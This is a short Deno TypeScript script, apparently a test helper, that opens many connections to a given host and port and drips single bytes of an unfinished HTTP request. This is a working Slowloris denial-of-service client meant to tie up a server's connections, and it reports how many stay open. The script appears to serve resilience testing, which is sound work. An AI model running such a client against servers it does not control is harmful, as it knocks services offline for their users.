/**
 * Clients that never come to the end of their request: each sends a byte of it now and then, as a
 * "Slowloris" does that wants to use up a server's connections.
 *
 * Arguments: the address, the port, how many clients, and after how many milliseconds each sends its
 * next byte. On SIGTERM it ends and prints how many of the connections were still open.
 *
 * @module
 */
import { pause } from "../wait_for.ts";

const [hostname = "", port = "", count = "", intervalMs = ""] = Deno.args;
const stopping = new AbortController();
Deno.addSignalListener("SIGTERM", () => stopping.abort());
const byte = new TextEncoder().encode("a");
let open = 0;

async function drip(place: number): Promise<void> {
  using connection = await Deno.connect({ hostname, port: Number(port) });
  open++;
  await connection.write(new TextEncoder().encode(`GET / HTTP/1.1\r\nHost: ${hostname}\r\nX: `));
  // Not all at the same moment.
  await pause(Number(intervalMs) * place / Number(count), stopping.signal);
  while (!stopping.signal.aborted) {
    await connection.write(byte);
    await pause(Number(intervalMs), stopping.signal);
  }
}

const clients = Array.from({ length: Number(count) }, (_, place) => drip(place));
await Promise.allSettled(clients.map((client) => client.catch(() => open--)));
Deno.stdout.writeSync(new TextEncoder().encode(`${open}\n`));
Deno.exit(0);
